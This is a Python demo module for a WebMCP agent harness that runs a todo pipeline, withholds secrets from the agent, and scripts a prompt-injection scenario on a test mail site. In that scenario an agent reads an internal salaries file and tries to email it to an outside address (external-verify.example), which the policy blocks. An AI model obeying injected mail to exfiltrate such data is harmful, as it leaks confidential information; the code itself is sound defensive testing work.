@@ -1,0 +1,208 @@
+"""``make demo`` / ``webmcp-harness demo``: the harness at work on the bundled sites.
+
+Four short acts, each on its own site (its own origin): the call pipeline on the todo
+site (on both backends), secrets kept from the agent on the keys console, a prompt
+injection stopped by policy on the mail site, and a scripted agent with its trace.
+"""
+
+from __future__ import annotations
+
+import json
+import tempfile
+from pathlib import Path
+from typing import Any
+
+from rich.console import Console
+from rich.table import Table
+
+from harness.agents.loop import run_agent
+from harness.agents.scripted import ScriptedAgent
+from harness.cli.render import print_tools
+from harness.errors import HarnessError, RevealError
+from harness.harness import Harness
+from harness.models import CallOutcome
+from harness.session import Session
+from harness.stages.redaction import withheld_items
+from harness.trace.view import show_trace
+
+# (tool, arguments, what the step shows)
+PIPELINE_STEPS: list[tuple[str, dict[str, Any], str]] = [
+    ("list_todos", {}, "read the list"),
+    ("add_todo", {"text": "Buy oat milk"}, "add a todo"),
+    ("complete_todo", {"id": 1}, "complete one"),
+    ("list_todos", {"status": "open"}, "only the open ones"),
+    ("add_todo", {"text": ""}, "bad arguments: refused before the page sees them"),
+    ("complete_todo", {"id": 999}, "a tool that throws: an isError result"),
+    ("delete_todo", {"id": 2}, "destructive: the policy asks the user; nobody answers → refused"),
+]
+
+MAIL_STEPS: list[tuple[str, dict[str, Any], str]] = [
+    ("list_inbox", {}, "untrusted public mail (one carries a prompt injection)"),
+    ("get_attachment", {"path": "hr/salaries.xlsx"}, "internal, financial: resolve() says so"),
+    (
+        "send_email",
+        {
+            "to": "payroll-audit@external-verify.example",
+            "subject": "salaries",
+            "body": "see attachment",
+        },
+        "what the injection asked for: send it outside",
+    ),
+]
+
+PLAN = """\
+task: Add a todo, then check the archive
+steps:
+  - call: add_todo
+    args: {text: Renew the passport}
+    expect: {isError: false, structuredContent: {todo: {text: Renew the passport}}}
+  - call: list_todos
+    args: {status: open}
+  - navigate: /archive
+  - call: list_archived
+  - finish: done
+"""
+
+
+def _first_text(outcome: CallOutcome) -> str:
+    """The first line of the agent view's text that is not the untrusted-data frame."""
+    for block in outcome.agent_json().get("content", []):
+        for line in str(block.get("text", "")).splitlines():
+            if line and not line.startswith(("<untrusted-data", "</untrusted-data")):
+                return line
+    return ""
+
+
+def _summary(outcome: CallOutcome) -> str:
+    if outcome.is_error:
+        return _first_text(outcome)[:110]
+    structured = outcome.agent_json().get("structuredContent")
+    return json.dumps(structured)[:110] if structured is not None else _first_text(outcome)[:110]
+
+
+async def _calls(
+    console: Console, session: Session, title: str, steps: list[tuple[str, dict[str, Any], str]]
+) -> None:
+    table = Table(title=title)
+    for column in ("step", "tool", "arguments", "agent view of the result", "ms"):
+        table.add_column(column, overflow="fold")
+    for tool, arguments, what in steps:
+        outcome = await session.call(tool, arguments)
+        status = "[red]isError[/] " if outcome.is_error else "[green]ok[/] "
+        table.add_row(
+            what,
+            tool,
+            json.dumps(arguments),
+            status + _summary(outcome),
+            f"{outcome.duration_ms:.0f}",
+        )
+    console.print(table)
+
+
+async def act_todo(console: Console, url: str) -> None:
+    """The pipeline: validation, errors as results, policy; and both backends agree."""
+    console.rule("[bold]1. The call pipeline[/] — todo site")
+    async with Harness(backend="polyfill") as harness:
+        session = await harness.open(url)
+        tools = await session.tools()
+        print_tools(console, url, tools, [w.message for w in session.warnings])
+        await _calls(
+            console, session, "Calls through the user agent (polyfill backend)", PIPELINE_STEPS
+        )
+    try:
+        async with Harness(backend="native") as native:
+            native_tools = await (await native.open(url)).tools()
+        same = [t.name for t in native_tools] == [t.name for t in tools]
+        console.print(
+            f"Chromium's own WebMCP (native backend) lists {len(native_tools)} tools"
+            f"{', the same names' if same else ' — [red]different names[/]'}."
+        )
+    except HarnessError as exc:
+        console.print(f"[yellow]native backend unavailable:[/] {exc}")
+
+
+async def act_keys(console: Console, url: str) -> None:
+    """Secrets: withheld from the agent, kept in the session's vault, revealed to the user."""
+    console.rule("[bold]2. Secrets never reach the agent[/] — keys console")
+    async with Harness() as harness:
+        session = await harness.open(url)
+        outcome = await session.call("generate_api_key", {"name": "demo"})
+        console.print("Agent view of generate_api_key (the secret is a handle):")
+        console.print_json(json.dumps(outcome.agent_json().get("structuredContent")))
+        for item in withheld_items(outcome.result):
+            try:
+                revealed = await session.reveal(item.handle)
+                shown = revealed.value[:6] + "…" if revealed.value else "(empty)"
+                console.print(f"  user view only: {item.label} = {shown} ({item.path})")
+            except RevealError as exc:
+                console.print(f"  [red]could not reveal {item.label}:[/] {exc}")
+        codes = await session.call("get_recovery_codes")
+        console.print(f"get_recovery_codes (sensitiveHint, no outputSchema): {_first_text(codes)}")
+
+
+async def act_mail(console: Console, url: str, outbox: list[dict[str, Any]]) -> None:
+    """The SEP's email scenario: the default policy pack stops the exfiltration."""
+    console.rule("[bold]3. A prompt injection meets the policy[/] — mail site")
+    async with Harness() as harness:
+        session = await harness.open(url)
+        await _calls(console, session, "Calls under the default policy pack", MAIL_STEPS)
+        table = Table(title="Audit trail (session.audit)")
+        for column in ("tool", "phase", "effect", "rules", "outcome", "attribution"):
+            table.add_column(column, overflow="fold")
+        for record in session.audit.records:
+            table.add_row(
+                record.tool,
+                record.phase,
+                record.effect,
+                ", ".join(record.rules) or "(default)",
+                record.outcome,
+                _attribution(record.attribution),
+            )
+        console.print(table)
+        console.print(f"Emails the site was asked to send: {len(outbox)}")
+
+
+def _attribution(sources: list[str]) -> str:
+    """URNs in full (they name the data); message URLs only counted."""
+    urns = [s for s in sources if not s.startswith(("http://", "https://"))]
+    others = len(sources) - len(urns)
+    return ", ".join([*urns, *([f"{others} page URL(s)"] if others else [])])
+
+
+async def act_agent(console: Console, url: str) -> None:
+    """A scripted agent plan through the loop, and the trace it leaves."""
+    console.rule("[bold]4. An agent run and its trace[/] — todo site")
+    with tempfile.TemporaryDirectory(prefix="webmcp-demo-") as tmp:
+        plan = Path(tmp) / "plan.yaml"
+        plan.write_text(PLAN, encoding="utf-8")
+        async with Harness() as harness:
+            session = await harness.new_session()
+            result = await run_agent(
+                session,
+                ScriptedAgent.from_file(plan),
+                url,
+                task="demo",
+                trace_dir=Path(tmp) / "run",
+            )
+        console.print(f"stop reason: [bold]{result.stop_reason}[/], steps: {len(result.steps)}")
+        show_trace(Path(tmp) / "run", console=console)
+
+
+async def run_demo(console: Console) -> int:
+    """Serve the bundled sites and run the four acts."""
+    from harness.sites.server import serve_sites
+
+    async with serve_sites(["todo", "keys", "mail"]) as sites:
+        console.rule("[bold]webmcp-harness demo[/]")
+        for name, url in sites.urls.items():
+            console.print(f"  {name:5} {url}")
+        try:
+            await act_todo(console, sites.url("todo"))
+            await act_keys(console, sites.url("keys"))
+            await act_mail(console, sites.url("mail"), sites["mail"].site.outbox)
+            await sites.reset("todo")
+            await act_agent(console, sites.url("todo"))
+        except HarnessError as exc:
+            console.print(f"[red]demo failed:[/] {exc}")
+            return 1
+    return 0
